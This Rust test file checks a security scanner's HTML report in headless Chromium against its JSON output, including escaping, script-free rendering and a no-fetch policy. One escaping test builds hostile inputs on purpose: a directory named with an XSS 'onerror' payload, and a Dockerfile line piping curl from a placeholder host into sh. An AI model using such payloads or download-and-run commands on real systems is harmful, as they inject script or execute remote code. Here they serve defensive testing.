//! The HTML report in a real browser: headless Chromium (Debian's package) loads the page
//! written by `rampart scan --format html`, with and without JavaScript, and the DOM it ends
//! with is checked against the JSON report of the same scan: one row per finding, the counts,
//! the severities. Markup inside a scanned file stays text. Screenshots at desktop and phone
//! widths are written to `target/html-report/` for review. Reported as ignored when Chromium is
//! not installed (a failure in CI, where .ci/run installs it).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test or benchmark fails by panicking"
)]

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

fn main() {
    let args = libtest_mimic::Arguments::from_args();
    let chromium = chromium().is_some();
    let trials = vec![
        common::needs_program(
            "the_dom_matches_the_json_report",
            chromium,
            "chromium",
            the_dom_matches_the_json_report,
        ),
        common::needs_program(
            "the_page_is_whole_without_javascript",
            chromium,
            "chromium",
            the_page_is_whole_without_javascript,
        ),
        common::needs_program(
            "markup_in_a_scanned_file_stays_text",
            chromium,
            "chromium",
            markup_in_a_scanned_file_stays_text,
        ),
        common::needs_program(
            "screenshots_at_desktop_and_phone_widths",
            chromium,
            "chromium",
            screenshots_at_desktop_and_phone_widths,
        ),
        common::needs_program(
            "the_compliance_page_renders_every_control",
            chromium,
            "chromium",
            the_compliance_page_renders_every_control,
        ),
        libtest_mimic::Trial::test("the_page_fetches_nothing", || {
            the_page_fetches_nothing();
            Ok(())
        }),
    ];
    libtest_mimic::run(&args, trials).exit();
}

fn chromium() -> Option<&'static str> {
    ["chromium", "chromium-browser"]
        .into_iter()
        .find(|p| common::installed(p))
}

fn out_dir() -> PathBuf {
    let dir = common::root().join("target/html-report");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// `rampart scan PATH --format html` into `name`, and the JSON report of the same scan.
fn reports(path: &Path, name: &str) -> (PathBuf, Value) {
    let html = out_dir().join(name);
    let o = common::rampart()
        .args(["scan", "--no-progress"])
        .arg(path)
        .args(["--format", "html", "--output"])
        .arg(&html)
        .args(["--format", "json"])
        .output()
        .unwrap();
    assert!(o.status.code().is_some_and(|c| c < 2), "{o:?}");
    let json: Value = serde_json::from_slice(&o.stdout).unwrap();
    (html, json)
}

/// The DOM after the page ran (its script too, unless `script` is false: then the page is
/// loaded without its `<script>` element, as a reader without JavaScript sees it; Chromium's
/// `--dump-dom` itself needs JavaScript on).
fn dom(html: &Path, script: bool) -> String {
    let mut html = html.to_path_buf();
    if !script {
        let text = std::fs::read_to_string(&html).unwrap();
        let start = text.rfind("<script>").unwrap();
        let end = text.rfind("</script>").unwrap() + "</script>".len();
        let stripped = format!("{}{}", &text[..start], &text[end..]);
        html = html.with_extension("noscript.html");
        std::fs::write(&html, stripped).unwrap();
    }
    let mut cmd = Command::new(chromium().unwrap());
    cmd.args([
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
    ]);
    let o = cmd
        .arg("--dump-dom")
        .arg(format!("file://{}", html.display()))
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    String::from_utf8(o.stdout).unwrap()
}

/// The findings of the JSON report that are not suppressed.
fn findings(json: &Value) -> Vec<&Value> {
    json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["suppressed"].is_null())
        .collect()
}

fn the_dom_matches_the_json_report() {
    let (html, json) = reports(&common::root().join("examples"), "dom.html");
    let dom = dom(&html, true);
    let all = findings(&json);
    assert!(all.len() > 10, "the example has findings");
    assert_eq!(
        dom.matches("<tr data-sev=").count(),
        all.len(),
        "one row per finding"
    );
    for sev in ["critical", "high", "medium", "low"] {
        let want = all.iter().filter(|f| f["severity"] == sev).count();
        let rows = dom.matches(&format!("<tr data-sev=\"{sev}\"")).count();
        assert_eq!(rows, want, "{sev}");
    }
    let count = json["summary"]["findings"].as_u64().unwrap();
    assert!(dom.contains(&format!("id=\"count-findings\" data-count=\"{count}\"")));
    // The script ran: the filters are shown and it says how many rows are on screen.
    assert!(
        dom.contains(&format!("{count} of {count} findings")),
        "{dom}"
    );
    assert!(!dom.contains("<form class=\"filters\" hidden"));
    // Each finding's location is in the table as the JSON report gives it.
    for f in &all {
        let at = format!(
            "{}:{}:{}",
            f["path"].as_str().unwrap(),
            f["location"]["start"]["line"],
            f["location"]["start"]["column"]
        );
        assert!(dom.contains(&at), "{at}");
    }
}

fn the_page_is_whole_without_javascript() {
    let (html, json) = reports(&common::root().join("examples"), "noscript.html");
    let dom = dom(&html, false);
    assert_eq!(dom.matches("<tr data-sev=").count(), findings(&json).len());
    assert!(!dom.contains("class=\"hidden\""), "no row is hidden");
    assert!(!dom.contains("<script>"));
    assert!(
        dom.contains("<form class=\"filters\" hidden"),
        "filters need the script"
    );
    assert!(dom.contains("<svg role=\"img\" aria-label=\"Findings by severity\""));
}

fn markup_in_a_scanned_file_stays_text() {
    let dir = tempfile::tempdir().unwrap();
    let sub = dir.path().join("<img src=x onerror=alert(1)>");
    std::fs::create_dir(&sub).unwrap();
    std::fs::write(
        sub.join("Dockerfile"),
        "FROM alpine:3.19\nRUN curl https://x.example/<script>alert(2)</script> | sh\n",
    )
    .unwrap();
    let (html, json) = reports(dir.path(), "hostile.html");
    assert!(!findings(&json).is_empty());
    let dom = dom(&html, true);
    assert!(!dom.contains("<img"), "{dom}");
    assert!(!dom.contains("<script>alert"), "{dom}");
    assert!(dom.contains("&lt;img src=x onerror=alert(1)&gt;"));
    assert!(dom.contains("&lt;script&gt;alert(2)&lt;/script&gt;"));
}

fn screenshots_at_desktop_and_phone_widths() {
    let (html, _) = reports(&common::root().join("examples"), "shots.html");
    for (name, width, height) in [("desktop", 1280, 1600), ("phone", 390, 1600)] {
        let png = out_dir().join(format!("examples-{name}.png"));
        let _ = std::fs::remove_file(&png);
        let o = Command::new(chromium().unwrap())
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--hide-scrollbars",
            ])
            .arg(format!("--window-size={width},{height}"))
            .arg(format!("--screenshot={}", png.display()))
            .arg(format!("file://{}", html.display()))
            .output()
            .unwrap();
        assert!(o.status.success(), "{o:?}");
        let bytes = std::fs::read(&png).unwrap();
        assert_eq!(&bytes[..8], b"\x89PNG\r\n\x1a\n");
        // IHDR: width and height, big-endian, at bytes 16..24.
        let w = u32::from_be_bytes(bytes[16..20].try_into().unwrap());
        let h = u32::from_be_bytes(bytes[20..24].try_into().unwrap());
        assert_eq!((w, h), (width, height), "{name}");
        // A blank page compresses to almost nothing; the report does not.
        assert!(bytes.len() > 20_000, "{name}: {} bytes", bytes.len());
    }
}

fn the_page_fetches_nothing() {
    let (html, _) = reports(&common::root().join("examples"), "fetch.html");
    let text = std::fs::read_to_string(&html).unwrap();
    assert!(
        text.contains("default-src 'none'"),
        "a CSP that allows no fetch"
    );
    for needle in ["src=\"http", "href=\"//", "@import", "url(http", "<link "] {
        assert!(!text.contains(needle), "{needle}");
    }
    // Links out are only to rule pages, never loaded by the page itself.
    for (i, _) in text.match_indices("http") {
        let before = &text[i.saturating_sub(6)..i];
        assert!(
            before.ends_with("href=\"") || !before.contains('='),
            "{}",
            &text[i.saturating_sub(40)..(i + 60).min(text.len())]
        );
    }
}

fn the_compliance_page_renders_every_control() {
    let html = out_dir().join("compliance.html");
    let o = common::rampart()
        .args([
            "compliance",
            "--framework",
            "cis-kubernetes",
            "--format",
            "html",
            "--output",
        ])
        .arg(&html)
        .arg("examples")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1), "{o:?}");
    // The page has no script: what the browser builds is the whole page.
    let dom = dom(&html, true);
    assert_eq!(dom.matches("<tr class=\"control\"").count(), 39);
    assert!(dom.contains("data-status=\"manual\""));
    assert!(dom.contains("<svg role=\"img\" aria-label=\"Controls by status\""));
}
